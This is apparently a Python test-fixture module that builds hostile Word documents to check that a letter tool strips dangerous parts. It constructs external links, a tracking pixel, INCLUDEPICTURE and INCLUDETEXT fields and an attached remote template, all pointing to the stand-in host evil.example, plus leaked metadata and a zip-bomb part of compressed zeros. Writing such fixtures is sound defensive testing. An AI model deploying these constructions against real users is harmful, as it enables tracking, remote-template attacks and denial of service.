"""Reference documents for the DOCX tests: one that carries everything a letter must
not take from it, one with a part that expands past any sane size."""

from __future__ import annotations

import io
import zipfile


def png() -> bytes:
    """A 1x1 white PNG."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data)))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff")) + chunk(b"IEND", b""))


PNG = png()
SECRETS = ("SECRET COMMENT", "Acme Leaks Inc", "Mr Manager", "urn:secret-identifier",
           "SECRET STATUS", "evil.example", "SECRET BODY", "SECRET CUSTOM XML",
           "SECRET PERSON", "SECRET VARIABLE", "SECRET GLOSSARY", "FAKE THUMBNAIL")


def hostile_reference() -> bytes:
    """A reference document carrying everything a letter must not: comments, company
    and manager, an identifier and a content status, a thumbnail, custom XML, people, a
    glossary, a document variable, an external template, an external link, a linked
    picture and fields that fetch in its header and footer; with styles and a header and
    footer a letter must keep."""
    import docx
    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    from docx.oxml import parse_xml
    from docx.oxml.ns import nsdecls
    from docx.shared import Pt

    d = docx.Document()
    d.styles["Normal"].font.name = "DejaVu Sans"
    d.styles["Normal"].font.size = Pt(13)
    body = d.add_paragraph("SECRET BODY")
    d.add_comment(body.runs, text="SECRET COMMENT", author="SECRET PERSON")
    d.core_properties.identifier = "urn:secret-identifier"
    d.core_properties.content_status = "SECRET STATUS"
    section = d.sections[0]
    header = section.header.paragraphs[0]
    header.add_run("LETTERHEAD OF THE SENDER ")
    header.add_run().add_picture(io.BytesIO(PNG))
    r_id = section.header.part.relate_to("https://evil.example/track", RT.HYPERLINK,
                                         is_external=True)
    header._p.append(parse_xml(
        f'<w:hyperlink {nsdecls("w", "r")} r:id="{r_id}"><w:r><w:t>our website</w:t>'
        "</w:r></w:hyperlink>"))
    linked = section.header.part.relate_to("https://evil.example/pixel.png", RT.IMAGE,
                                           is_external=True)
    header._p.append(parse_xml(
        f'<w:r {nsdecls("w", "r")}><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
        f'<v:imagedata r:id="{linked}"/></v:shape></w:pict></w:r>'))
    footer = section.footer.paragraphs[0]
    footer.add_run("FOOTER OF THE SENDER")
    footer._p.append(parse_xml(  # a field that fetches a picture when Word updates it
        f'<w:fldSimple {nsdecls("w")} w:instr=\' INCLUDEPICTURE "https://evil.example/f.png"'
        " \\d '><w:r><w:t> and its field</w:t></w:r></w:fldSimple>"))
    footer._p.append(parse_xml(
        f'<w:r {nsdecls("w")}><w:instrText> INCLUDETEXT "https://evil.example/t.docx" '
        "</w:instrText></w:r>"))
    buf = io.BytesIO()
    d.save(buf)

    extra = {
        "docProps/app.xml": (
            '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
            'extended-properties"><Company>Acme Leaks Inc</Company><Manager>Mr Manager'
            "</Manager></Properties>"),
        "docProps/thumbnail.jpeg": "FAKE THUMBNAIL",
        "customXml/item1.xml": "<secret>SECRET CUSTOM XML</secret>",
        "word/people.xml": (
            '<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml">'
            '<w15:person w15:author="SECRET PERSON"/></w15:people>'),
        "word/glossary/document.xml": (
            f'<w:glossaryDocument {nsdecls("w")}><w:docParts><w:docPart><w:docPartBody>'
            "<w:p><w:r><w:t>SECRET GLOSSARY</w:t></w:r></w:p></w:docPartBody></w:docPart>"
            "</w:docParts></w:glossaryDocument>"),
        "word/_rels/settings.xml.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            'relationships"><Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/attachedTemplate" '
            'Target="https://evil.example/template.dotm" TargetMode="External"/>'
            "</Relationships>"),
    }
    word_rels = (
        '<Relationship Id="rIdP" Type="http://schemas.microsoft.com/office/2011/'
        'relationships/people" Target="people.xml"/>'
        '<Relationship Id="rIdG" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/glossaryDocument" Target="glossary/document.xml"/>')
    out = io.BytesIO()
    with zipfile.ZipFile(buf) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename in extra:
                continue
            if info.filename == "word/settings.xml":
                data = data.replace(b"<w:zoom ", b'<w:attachedTemplate r:id="rIdT"/>'
                                    b"<w:docVars><w:docVar w:name=\"x\" w:val=\"SECRET "
                                    b'VARIABLE"/></w:docVars><w:zoom ', 1)
            if info.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", word_rels.encode() + b"</Relationships>")
            if info.filename == "[Content_Types].xml":
                data = data.replace(b"</Types>", (
                    b'<Override PartName="/word/glossary/document.xml" ContentType="application/'
                    b'vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml"/>'
                    b"</Types>"))
            z.writestr(info, data)
        for name, text in extra.items():
            z.writestr(name, text)
    return out.getvalue()


def reference_with_a_part(megabytes: int) -> bytes:
    """A reference document whose body links a part of zeros (200 MB of zeros are 200 kB
    in the zip), written in a stream."""
    import docx

    buf = io.BytesIO()
    docx.Document().save(buf)
    out = io.BytesIO()
    with zipfile.ZipFile(buf) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED,
                                                    compresslevel=1) as z:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == "[Content_Types].xml":
                data = data.replace(b"<Default ", b'<Default Extension="bin" '
                                    b'ContentType="application/octet-stream"/><Default ', 1)
            if info.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", (
                    b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/'
                    b'officeDocument/2006/relationships/image" Target="media/x.bin"/>'
                    b"</Relationships>"))
            z.writestr(info, data)
        with z.open("word/media/x.bin", "w", force_zip64=True) as f:
            zeros = bytes(1 << 20)
            for _ in range(megabytes):
                f.write(zeros)
    return out.getvalue()
